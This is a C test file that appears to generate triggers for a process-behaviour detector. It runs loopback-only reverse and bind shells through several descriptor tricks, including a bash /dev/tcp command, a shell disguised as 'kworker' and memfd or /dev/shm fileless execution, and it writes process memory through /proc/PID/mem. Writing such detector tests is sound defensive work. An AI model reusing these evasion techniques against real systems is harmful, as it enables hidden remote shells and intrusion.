/*
 * shells: reverse-shell and fileless variants that sidestep descriptor bookkeeping or names
 * (issue 8, signature classes 5-7). Each variant prints `VARIANT=PID` for the process that ends
 * up executing the shell (or the payload); every shell runs `exit 0`-like input and ends.
 *
 *   dup2       textbook C: fork, connect, dup2 x3, execl("/bin/sh") of literals
 *   fcntl      fcntl(F_DUPFD) onto 0 and 1 instead of dup
 *   passed     the socket arrives over SCM_RIGHTS from another process, then dup2 + exec
 *   accept     bind shell: accept(NULL, NULL), dup2, exec
 *   devtcp     bash: exec 3<>/dev/tcp/127.0.0.1/PORT; sh <&3 >&3 (bash's saved copies)
 *   renamed    a copy of /bin/sh under another name, stdio on the socket
 *   pty        a relay holds the socket and runs the shell on a pseudo-terminal
 *   memfd-dup  a memfd dup'd to another number, exec'd through /proc/thread-self/fd/N
 *   shm        a program copied to /dev/shm and executed there
 *   emptypath  execveat(memfd, "", AT_EMPTY_PATH)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <pty.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "triggers.h"

static int listener(struct sockaddr_in *a)
{
    int ls = socket(AF_INET, SOCK_STREAM, 0);
    *a = loopback4(0);
    socklen_t l = sizeof(*a);
    if (bind(ls, (void *)a, sizeof(*a)) < 0 || listen(ls, 4) < 0 || getsockname(ls, (void *)a, &l) < 0) die("listen");
    return ls;
}

static int dial(const struct sockaddr_in *a)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (const void *)a, sizeof(*a)) < 0) die("connect");
    return s;
}

/* The operator side: accept, tell the shell to leave, wait for the child. */
static void operate(int ls, pid_t child, const char *name)
{
    int c = accept(ls, NULL, NULL);
    if (c >= 0) {
        if (write(c, "exit 0\n", 7) != 7) {}
    }
    int st;
    waitpid(child, &st, 0);
    if (c >= 0) close(c);
    OUT("%s=%d\n", name, child);
}

static void exec_sh(void)
{
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    _exit(127);
}

static void v_dup2(void)
{
    struct sockaddr_in a;
    int ls = listener(&a);
    pid_t c = fork();
    if (c == 0) {
        int s = dial(&a);
        dup2(s, 0); dup2(s, 1); dup2(s, 2);
        exec_sh();
    }
    operate(ls, c, "dup2");
    close(ls);
}

static void v_fcntl(void)
{
    struct sockaddr_in a;
    int ls = listener(&a);
    pid_t c = fork();
    if (c == 0) {
        int s = dial(&a);
        close(0);
        fcntl(s, F_DUPFD, 0);
        close(1);
        fcntl(s, F_DUPFD, 1);
        close(s);
        exec_sh();
    }
    operate(ls, c, "fcntl");
    close(ls);
}

static void v_passed(void)
{
    struct sockaddr_in a;
    int ls = listener(&a);
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) die("socketpair");
    pid_t c = fork();
    if (c == 0) {
        close(sv[0]);
        int s = recv_fd(sv[1]);
        dup2(s, 0); dup2(s, 1);
        exec_sh();
    }
    close(sv[1]);
    int s = dial(&a);
    send_fd(sv[0], s);
    close(s);
    operate(ls, c, "passed");
    close(ls);
    close(sv[0]);
}

static void v_accept(void)
{
    struct sockaddr_in a;
    int ls = listener(&a);
    pid_t c = fork();
    if (c == 0) {
        int s = accept(ls, NULL, NULL);
        dup2(s, 0); dup2(s, 1);
        exec_sh();
    }
    close(ls);
    int s = dial(&a);
    if (write(s, "exit 0\n", 7) != 7) {}
    int st;
    waitpid(c, &st, 0);
    close(s);
    OUT("accept=%d\n", c);
}

static void v_devtcp(void)
{
    struct sockaddr_in a;
    int ls = listener(&a);
    char cmd[200];
    snprintf(cmd, sizeof(cmd), "exec 3<>/dev/tcp/127.0.0.1/%d; exec /bin/sh -i <&3 >&3", ntohs(a.sin_port));
    pid_t c = fork();
    if (c == 0) {
        execl("/bin/bash", "bash", "-c", cmd, (char *)NULL);
        _exit(127);
    }
    operate(ls, c, "devtcp");
    close(ls);
}

static void v_renamed(void)
{
    char path[64];
    snprintf(path, sizeof(path), "/tmp/mw-kworker-%d", getpid());
    copy_file("/bin/sh", path);
    struct sockaddr_in a;
    int ls = listener(&a);
    pid_t c = fork();
    if (c == 0) {
        int s = dial(&a);
        dup2(s, 0); dup2(s, 1);
        execl(path, "kworker", (char *)NULL);
        _exit(127);
    }
    operate(ls, c, "renamed");
    close(ls);
    unlink(path);
}

static void v_pty(void)
{
    struct sockaddr_in a;
    int ls = listener(&a);
    pid_t relay = fork();
    if (relay == 0) {
        int s = dial(&a);
        int master;
        pid_t sh = forkpty(&master, NULL, NULL, NULL);
        if (sh == 0) {
            close(s);
            exec_sh();
        }
        OUT("pty=%d\n", sh);
        /* relay: socket -> terminal until the shell ends */
        char buf[256];
        ssize_t n = read(s, buf, sizeof(buf));
        if (n > 0 && write(master, buf, n) != n) {}
        int st;
        waitpid(sh, &st, 0);
        _exit(0);
    }
    int c = accept(ls, NULL, NULL);
    if (c >= 0 && write(c, "exit 0\n", 7) != 7) {}
    int st;
    waitpid(relay, &st, 0);
    if (c >= 0) close(c);
    close(ls);
}

static void v_memfd_dup(void)
{
    pid_t c = fork();
    if (c == 0) {
        int fd = payload_memfd();
        int other = fcntl(fd, F_DUPFD, 40);
        close(fd);
        char path[64];
        snprintf(path, sizeof(path), "/proc/thread-self/fd/%d", other);
        execl(path, "payload", (char *)NULL);
        _exit(127);
    }
    int st;
    waitpid(c, &st, 0);
    OUT("memfd-dup=%d\n", c);
}

static void v_shm(void)
{
    char path[64];
    snprintf(path, sizeof(path), "/dev/shm/mw-shm-%d", getpid());
    copy_file("/bin/true", path);
    pid_t c = fork();
    if (c == 0) {
        execl(path, "x", (char *)NULL);
        _exit(127);
    }
    int st;
    waitpid(c, &st, 0);
    unlink(path);
    OUT("shm=%d\n", c);
}

static void v_emptypath(void)
{
    pid_t c = fork();
    if (c == 0) {
        int fd = payload_memfd();
        char *argv[] = {"payload", NULL};
        char *envp[] = {NULL};
        syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
        _exit(127);
    }
    int st;
    waitpid(c, &st, 0);
    OUT("emptypath=%d\n", c);
}

int shells(void)
{
    signal(SIGPIPE, SIG_IGN);
    v_dup2();
    v_fcntl();
    v_passed();
    v_accept();
    v_devtcp();
    v_renamed();
    v_pty();
    v_memfd_dup();
    v_shm();
    v_emptypath();
    return 0;
}

/* proc-mem: write into a child's memory through /proc/CHILD/mem, no ptrace. The child reports
 * the value it then reads at the written address. */
static volatile long target_word = 1;

int proc_mem(void)
{
    int ready[2], done[2];
    if (pipe(ready) < 0 || pipe(done) < 0) die("pipe");
    pid_t c = fork();
    if (c == 0) {
        char b;
        if (write(ready[1], "r", 1) != 1) _exit(2);
        if (read(done[0], &b, 1) != 1) _exit(2);
        _exit(target_word == 42 ? 0 : 1);
    }
    char b;
    if (read(ready[0], &b, 1) != 1) die("child");
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/mem", c);
    int fd = open(path, O_RDWR);
    long v = 42;
    ssize_t n = fd >= 0 ? pwrite(fd, &v, sizeof(v), (off_t)(uintptr_t)&target_word) : -1;
    if (write(done[1], "d", 1) != 1) die("signal");
    int st;
    waitpid(c, &st, 0);
    OUT("child=%d memfd=%d written=%zd child_saw_42=%d\n", c, fd, n, WIFEXITED(st) && WEXITSTATUS(st) == 0);
    return 0;
}
